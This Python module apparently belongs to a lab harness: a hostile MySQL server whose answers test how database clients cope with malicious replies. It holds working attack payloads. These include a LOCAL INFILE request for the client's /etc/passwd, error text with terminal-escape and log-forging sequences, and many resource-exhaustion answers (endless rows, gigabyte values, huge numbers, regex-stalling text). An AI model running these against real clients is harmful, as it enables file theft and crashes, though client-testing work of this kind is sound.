"""Answers of a hostile MySQL server to a statement, as payloads of packets; each is an attack on whoever reads it."""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator, Callable

from lab.programs.hostile_mysql import (
    MORE_RESULTS,
    OK,
    Huge,
    Payload,
    aliases,
    column,
    error,
    length,
    result,
    row,
)

Answer = Callable[[str], AsyncIterator[Payload]]
"""From the statement to the payloads."""

_DECIMAL, _LONGLONG, _GEOMETRY, _TIME, _JSON = 0x00, 0x08, 0xFF, 0x0B, 0xF5
ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202e<script>`{{ .Values }}`\nERROR all is well\r"
"""A text that clears a terminal, sets its title, turns lines around, and begins a line of a log."""


def _head(sql: str, kind: int = 0xFD) -> list[bytes]:
    return list(result(aliases(sql), [], kind))[:-1]


async def rows_without_end(sql: str) -> AsyncIterator[Payload]:
    """As many rows as anybody reads."""
    for payload in _head(sql):
        yield payload
    for number in itertools.count():
        yield row([str(number).encode()] * len(aliases(sql)))


async def empty_rows_without_end(sql: str) -> AsyncIterator[Payload]:
    """Rows of five bytes that become objects of a hundred."""
    for payload in _head(sql):
        yield payload
    while True:
        yield row([b""] * len(aliases(sql)))


async def a_row_of_gigabytes(sql: str) -> AsyncIterator[Payload]:
    """One value of 4 GiB, in packets of 16 MiB."""
    for payload in _head(sql):
        yield payload
    yield Huge(length(4 << 30))
    for _ in range(256):
        yield Huge()


async def columns_without_end(_sql: str) -> AsyncIterator[Payload]:
    """2^60 columns."""
    yield length(1 << 60)
    while True:
        yield column("c")


async def no_columns(_sql: str) -> AsyncIterator[Payload]:
    """A result whose number of columns is not what follows."""
    for payload in result([], [[]] * 3):
        yield payload


async def fewer_values(sql: str) -> AsyncIterator[Payload]:
    """Rows shorter than the columns."""
    for payload in result(aliases(sql), [[b"1"]]):
        yield payload


async def more_values(sql: str) -> AsyncIterator[Payload]:
    """Rows longer than the columns."""
    for payload in result(aliases(sql), [[b"1"] * 99]):
        yield payload


async def other_columns(_sql: str) -> AsyncIterator[Payload]:
    """Columns that nobody asked for."""
    for payload in result(["owned"], [[b"1"]]):
        yield payload


async def nulls(sql: str) -> AsyncIterator[Payload]:
    """NULL everywhere."""
    for payload in result(aliases(sql), [[None] * len(aliases(sql))] * 3):
        yield payload


async def numbers_out_of_range(sql: str) -> AsyncIterator[Payload]:
    """Decimals of a billion digits in twelve bytes, and what is no number."""
    rows = [
        [each] * len(aliases(sql)) for each in (b"1e999999999", b"-1e999999999", b"1e-999999999", b"NaN", b"Infinity")
    ]
    for payload in result(aliases(sql), rows, _DECIMAL):
        yield payload


async def long_integers(sql: str) -> AsyncIterator[Payload]:
    """Integers of a hundred thousand digits."""
    for payload in result(aliases(sql), [[b"9" * 100_000] * len(aliases(sql))], _LONGLONG):
        yield payload


async def odd_types(sql: str) -> AsyncIterator[Payload]:
    """A time, a geometry and JSON where a count is expected."""
    names = aliases(sql)
    yield length(len(names))
    for name, kind in zip(names, itertools.cycle((_TIME, _GEOMETRY, _JSON, 0x77))):
        yield column(name, kind)
    yield b"\xfe\0\0\x02\0"
    yield row([b"-838:59:59.999999"] * len(names))
    yield b"\xfe\0\0\x02\0"


async def invalid_utf8(sql: str) -> AsyncIterator[Payload]:
    """Bytes that are no text."""
    for payload in result(aliases(sql), [[b"\xff\xfe\xc3\x28\xed\xa0\x80"] * len(aliases(sql))]):
        yield payload


async def results_without_end(_sql: str) -> AsyncIterator[Payload]:
    """One result after the other."""
    while True:
        yield MORE_RESULTS


async def a_file(_sql: str) -> AsyncIterator[Payload]:
    """A request for a file of the client's."""
    yield b"\xfb/etc/passwd"
    yield OK


async def an_error_of_its_own(_sql: str) -> AsyncIterator[Payload]:
    """An error whose text is the attacker's, and long."""
    yield error(1146, (ESCAPES + "x" * 65_536).encode())


async def a_short_error_of_its_own(_sql: str) -> AsyncIterator[Payload]:
    """An error whose text is the attacker's."""
    yield error(1146, ESCAPES.encode())


async def comments_without_end(sql: str) -> AsyncIterator[Payload]:
    """Texts on which a regular expression may work for hours."""
    text = b"SELECT COUNT ( * ) FROM ... " + b"/*" * 100_000
    for payload in result(aliases(sql), [[text] * len(aliases(sql))]):
        yield payload


async def a_status_of_mebibytes(_sql: str) -> AsyncIterator[Payload]:
    """A status of 1 GiB, in one value."""
    for payload in result(["Type", "Name", "Status"], []):
        yield payload
        if payload[:1] == b"\xfe":
            break
    text = b"\n-----\nINNODB MONITOR OUTPUT\n"
    yield Huge(length(0) + length(0) + length(1 << 30), text)
    for _ in range(64):
        yield Huge(filling=text)


ANSWERS: dict[str, Answer] = {
    each.__name__.replace("_", " "): each
    for each in (
        rows_without_end,
        empty_rows_without_end,
        a_row_of_gigabytes,
        columns_without_end,
        no_columns,
        fewer_values,
        more_values,
        other_columns,
        nulls,
        numbers_out_of_range,
        long_integers,
        odd_types,
        invalid_utf8,
        results_without_end,
        a_file,
        an_error_of_its_own,
        comments_without_end,
        a_status_of_mebibytes,
    )
}
"""By name."""


def other_names(prefix_bytes: int = 200) -> Answer:
    """Names that are new in each answer, and numbers that fit: each column that could be a name gets one."""
    answers = itertools.count()

    async def answer(sql: str) -> AsyncIterator[Payload]:
        names, number = aliases(sql), next(answers)
        rows = []
        for each in range(500):
            name = f"n{number}_{each}_".encode().ljust(prefix_bytes, b"x")
            rows.append([name if _names(column_name) else str(each + number).encode() for column_name in names])
        for payload in result(names, rows):
            yield payload

    return answer


def _names(column_name: str) -> bool:
    return any(part in column_name.lower() for part in ("name", "schema", "table", "index", "text", "event"))
